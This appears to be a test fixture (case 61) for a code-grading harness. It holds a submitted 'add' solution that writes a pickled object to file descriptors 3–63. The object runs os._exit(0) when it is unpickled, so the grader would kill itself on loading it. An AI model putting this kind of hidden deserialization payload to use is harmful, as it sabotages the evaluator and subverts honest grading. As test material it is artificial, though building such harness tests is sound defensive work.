# 61: answers with a pickle that would run a command where it is loaded
# results: malformed answer
import os
import pickle


class Command:
    def __reduce__(self):
        return os._exit, (0,)


def add(a, b):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, pickle.dumps(Command()) + b"\n")
        except OSError:
            pass
    return a + b


product = add
